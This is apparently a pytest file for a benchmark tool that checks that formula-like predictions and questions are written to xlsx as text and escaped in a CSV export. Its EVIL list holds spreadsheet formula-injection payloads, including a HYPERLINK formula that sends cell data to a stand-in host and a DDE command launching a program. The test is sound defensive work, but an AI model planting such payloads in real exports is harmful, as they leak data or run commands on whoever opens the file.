"""Spreadsheet formulas (issue 32 #3): a prediction or question that starts like a formula is never a live
formula in the submission xlsx or a converted xlsx, and reads back exactly (pandas, openpyxl, our loaders);
the ``--leakage`` CSV prefixes such cells with ``'`` so a spreadsheet shows them as text."""

from __future__ import annotations

import csv
import json

import pandas as pd
from conftest import make_samples, run_cli
from openpyxl import load_workbook

from mmstar.runs import write_manifest

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\tA", "\rA",
        "=cmd|' /C calc'!A0"]


def _xml(text: str) -> str:
    """What any xlsx gives back for ``text``: XML turns a CR (and CR LF) into LF; nothing else changes."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _formulas(path) -> list[str]:
    """Every cell of the workbook that a spreadsheet would evaluate."""
    book = load_workbook(path)  # not data_only: formulas come back as formulas
    return [f"{c.coordinate}={c.value!r}" for sheet in book for row in sheet.iter_rows() for c in row
            if c.data_type == "f"]


def _run(root):
    items = make_samples(len(EVIL), images=False)
    run_dir = root / "runs" / "evil" / "mini"
    run_dir.mkdir(parents=True)
    for mode in ("v", "wv", "t"):  # wv right, t wrong: every sample is a leakage row
        lines = [{"index": s.index, "mode": mode, "prediction": s.answer if mode == "wv" else EVIL[s.index],
                  "answer": s.answer,
                  "category": s.category, "l2_category": s.l2_category, "source": "demo",
                  "question": EVIL[-1 - s.index] + " " + s.question, "options": s.options, "error": None}
                 for s in items]
        (run_dir / f"{mode}.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
    write_manifest(run_dir, {"model_label": "evil", "benchmark": "mini", "prompt": "official", "shots": 0})
    return run_dir, items


def test_submission_xlsx_has_no_formulas_and_predictions_survive(tmp_path):
    run_dir, items = _run(tmp_path)
    out = tmp_path / "pub"
    proc = run_cli("leaderboard", str(run_dir), "--csv", str(out / "lb.csv"), "--submission", str(out / "sub"),
                   "--leakage", str(out / "leak.csv"))
    assert proc.returncode == 0, proc.stderr
    for name in ("evil_mini.xlsx", "evil_mini_wo_image.xlsx", "evil_mini_llm_base.xlsx"):
        path = out / "sub" / name
        assert _formulas(path) == []
        back = pd.read_excel(path, dtype=str, keep_default_na=False)
        if "wo_image" not in name:  # character for character, none lost to an empty cell
            assert back["prediction"].tolist() == [_xml(e) for e in EVIL]
        assert back["question"].tolist() == [_xml(EVIL[-1 - s.index] + " " + s.question) for s in items]
    scored = json.loads(run_cli("score", str(out / "sub" / "evil_mini.xlsx"), "--json").stdout)
    assert scored["n"] == len(EVIL)


def test_leakage_csv_cells_that_start_like_a_formula_are_text(tmp_path):
    run_dir, items = _run(tmp_path)
    out = tmp_path / "leak.csv"
    proc = run_cli("leaderboard", str(run_dir), "--csv", str(tmp_path / "lb.csv"), "--leakage", str(out))
    assert proc.returncode == 0, proc.stderr
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(EVIL)
    for row in rows:
        for key in ("question", "t_prediction"):
            assert row[key].startswith("'"), (key, row[key])  # shown as text; the original follows the '
        i = int(row["index"])
        assert row["t_prediction"][1:] == EVIL[i] and row["question"][1:] == EVIL[-1 - i] + " " + items[i].question


def test_converted_xlsx_keeps_formula_like_questions_as_text(tmp_path):
    from mmstar.loaders import load_benchmark
    from mmstar.sample import Benchmark
    from mmstar.writers import write_benchmark

    items = [s.with_(question=EVIL[s.index] + "\n" + s.question.split("\n", 1)[1])
             for s in make_samples(len(EVIL), images=False)]
    src = write_benchmark(Benchmark("evil", items), tmp_path / "evil.parquet")
    proc = run_cli("data", "convert", str(src), str(tmp_path / "evil.xlsx"))
    assert proc.returncode == 0, proc.stderr
    assert _formulas(tmp_path / "evil.xlsx") == []
    back = load_benchmark(tmp_path / "evil.xlsx")
    assert [s.question for s in back] == [_xml(s.question) for s in items]
